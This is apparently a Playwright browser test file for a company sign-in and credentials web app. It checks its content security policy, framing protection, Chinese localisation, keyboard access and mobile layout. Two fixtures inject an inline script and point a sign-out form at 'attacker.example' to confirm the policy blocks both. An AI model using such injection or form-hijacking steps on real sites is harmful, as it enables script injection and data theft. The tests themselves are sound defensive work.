"""What every page keeps to: the policy that lets nothing foreign in, and the reader's own language."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from federation_bridge.sandbox.company_files import PRODUCTION

pytestmark = pytest.mark.browser


@pytest.mark.parametrize("path", ["/", "/why", f"/go/{PRODUCTION}/Nobody", "/nothing-here", "/confirm"])
def test_a_page_loads_all_that_it_needs_and_breaks_no_policy(ada: Any, path: str) -> None:
    loads: list[Any] = []
    ada.page.on("response", lambda response: loads.append(response))  # noqa: PLW0108 - playwright wants a function
    ada.open(path)
    ada.page.wait_for_load_state("networkidle")
    assert all(load.url.startswith(ada.company.bridge) for load in loads)
    refused = path in ("/nothing-here", f"/go/{PRODUCTION}/Nobody")
    assert [load.url for load in loads if load.status >= 400] == ([ada.company.bridge + path] if refused else [])
    assert ada.page.evaluate("getComputedStyle(document.body).margin") == "0px"


def stopped(window: Any, action: str) -> str:
    """Does this in the page and waits until the policy has stopped it; what it went against."""
    directive = window.page.evaluate(
        """action => new Promise(done => {
             document.addEventListener("securitypolicyviolation", event => done(event.effectiveDirective));
             ACTIONS[action]();
           })""".replace("ACTIONS", _ACTIONS),
        action,
    )
    return str(directive)


_ACTIONS = """({
  script: () => document.body.append(Object.assign(document.createElement("script"), {textContent: "window.ran = 1"})),
  form: () => {
    const form = document.querySelector("form[action='/sign-out']");
    form.action = "https://attacker.example/";
    form.submit();
  },
})"""


def test_a_foreign_script_on_our_page_does_not_run_and_is_noticed(ada: Any) -> None:
    assert stopped(ada, "script").startswith("script-src")
    assert ada.page.evaluate("window.ran") is None
    assert any("script-src" in complaint for complaint in ada.complaints)
    ada.complaints.clear()


def test_a_form_that_leads_elsewhere_is_stopped_and_noticed(ada: Any) -> None:
    assert stopped(ada, "form") == "form-action"
    assert ada.page.url == f"{ada.company.bridge}/"
    assert any("form-action" in complaint for complaint in ada.complaints)
    ada.complaints.clear()


def test_another_site_cannot_frame_us(ada: Any) -> None:
    elsewhere = f"{ada.company.addresses.provider}/framing"
    page = f"<link rel=icon href=data:,><iframe src='{ada.company.bridge}/why'></iframe>"
    ada.page.route(elsewhere, lambda route: route.fulfill(content_type="text/html", body=page))
    ada.page.goto(elsewhere, wait_until="networkidle")
    assert [frame.url for frame in ada.page.frames] == [elsewhere, "chrome-error://chromewebdata/"]
    ada.complaints.clear()


def test_a_chinese_reader_is_spoken_to_in_chinese(new_window: Callable[..., Any]) -> None:
    window = new_window(locale="zh-CN")
    window.open()
    expect(window.page.locator("html")).to_have_attribute("lang", "zh-Hans-CN")
    window.shows("使用公司账号登录")
    window.press("Example company")
    window.type_password("ada")
    window.shows("我的角色")
    window.press_for(f"{PRODUCTION}/Developer", "credentials")
    expect(window.page.locator("button[data-copies=text-env]")).to_be_visible()


def test_a_keyboard_alone_is_enough(window: Any) -> None:
    window.open()
    keys = window.page.keyboard
    keys.press("Tab")
    expect(window.page.get_by_role("link", name="Skip to the content")).to_be_focused()
    keys.press("Enter")
    keys.press("Tab")
    expect(window.page.get_by_role("button", name="Example company", exact=True)).to_be_focused()
    keys.press("Enter")
    window.type_password("ada")
    window.shows("My roles")


@pytest.mark.parametrize("path", ["/", "/why", "/activity"])
def test_a_page_fits_a_telephone(new_window: Callable[..., Any], path: str) -> None:
    window = new_window(viewport={"width": 360, "height": 740}, color_scheme="dark")
    window.arrive("ada")
    window.open(path)
    assert window.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_the_bar_is_one_row_and_no_page_is_wider_than_a_small_screen(ada: Any) -> None:
    for path in ("/", "/why", "/activity", f"/roles/{PRODUCTION}/Developer"):
        ada.page.set_viewport_size({"width": 1200, "height": 900})
        ada.open(path)
        middles = ada.page.evaluate(
            "() => [...document.querySelectorAll('.bar > *')].map(one => one.getBoundingClientRect())"
            ".map(box => (box.top + box.bottom) / 2)"
        )
        assert len(middles) == 4
        assert max(middles) - min(middles) < 3, path
        ada.page.set_viewport_size({"width": 360, "height": 900})
        assert ada.page.evaluate("document.documentElement.scrollWidth") <= 360, path
